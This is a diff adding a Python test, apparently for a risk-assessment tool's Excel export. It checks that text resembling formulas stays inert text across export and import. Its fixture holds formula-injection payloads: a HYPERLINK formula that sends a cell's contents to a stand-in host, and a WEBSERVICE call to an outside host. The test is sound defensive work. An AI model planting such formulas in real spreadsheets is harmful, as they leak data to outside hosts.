@@ -312,3 +312,39 @@ def test_a_folder_or_nothing_is_no_workbook(tmp_path: Path) -> None:
         with pytest.raises(UserError) as raised:
             read_cells(path)
         assert str(raised.value) == f"{path}: {said}"
+
+
+FORMULAS = ('=HYPERLINK("http://example.com/?d="&B2,"klikk")', '=WEBSERVICE("http://x.example")')
+
+
+def test_text_that_looks_like_a_formula_stays_text_through_export_import_export(
+    tmp_path: Path,
+) -> None:
+    """A threat written `=HYPERLINK(…)` is text in the record, text in the sheet (a string cell
+    with Excel's quote prefix, so not even editing the cell makes it live), text when imported,
+    and text again in the next export; ims's own formulas (R and the level) stay formulas."""
+    ros = next(r for r in EXAMPLE_ROS if r.id == "ROS-2026-0002")
+    first, second = ros.risikoer[0], ros.risikoer[1]
+    risks = [
+        first.model_copy(update={"trussel": FORMULAS[0], "aspekt": FORMULAS[1]}),
+        second.model_copy(update={"trussel": "+47 22 33 44 55", "eksisterende_tiltak": "@team"}),
+    ]
+    hostile = ros.model_copy(update={"risikoer": risks})
+    path = tmp_path / "ros.xlsx"
+    units = by_id(EXAMPLE.organisasjon)
+    for _ in ("export", "again"):
+        write_sheet(path, *write_sheet_layout(hostile, EXAMPLE.organisasjon, units, EXAMPLE.config))
+        sheet = load_workbook(path).worksheets[0]
+        for address, value in (
+            ("C9", FORMULAS[0]),
+            ("B9", FORMULAS[1]),
+            ("C10", "+47 22 33 44 55"),
+            ("S10", "@team"),
+        ):
+            cell = sheet[address]
+            assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True), address
+        assert sheet["F9"].data_type == "f" and sheet["F9"].value.startswith("=IF(")
+        _, cells = read_cells(path)
+        imported = read_sheet(cells, EXAMPLE.organisasjon, None, None)
+        hostile = Ros.model_validate({**imported.data, "id": ros.id})
+        assert hostile.risikoer[0].trussel == FORMULAS[0]
